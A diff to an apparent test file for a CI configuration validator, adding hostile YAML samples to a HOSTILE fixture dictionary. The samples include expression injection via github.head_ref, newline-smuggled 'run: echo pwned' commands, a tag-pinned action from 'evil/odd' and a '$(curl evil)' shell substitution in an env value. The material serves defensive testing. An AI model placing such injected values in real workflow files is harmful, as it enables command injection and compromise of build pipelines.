@@ -17,6 +17,11 @@ HOSTILE = {
     "expression-in-branches": "environments:\n  prod: {branches: ['${{ github.head_ref }}']}\n  dev: {branches: ['*']}\n",
     "quotes-in-sweep-file": 'sweep_file: "sweeps/it\'s \\"odd\\".yaml"\n',
     "newline-in-python": 'python: "3.11\\nrun: echo pwned"\n',
+    # actions: settings: refused with their file:line, or rendered harmless
+    "expression-in-setup": "actions:\n  agents:\n    setup:\n      - run: echo ${{ github.head_ref }}\n",
+    "newline-in-label": 'actions:\n  runs-on: "gpu\\nrun: echo pwned"\n',
+    "tag-pinned-setup": "actions:\n  agents:\n    setup:\n      - uses: evil/odd@v1\n",
+    "shell-in-env": "actions:\n  env: {X: '$(curl evil)'}\n",
 }
 
 
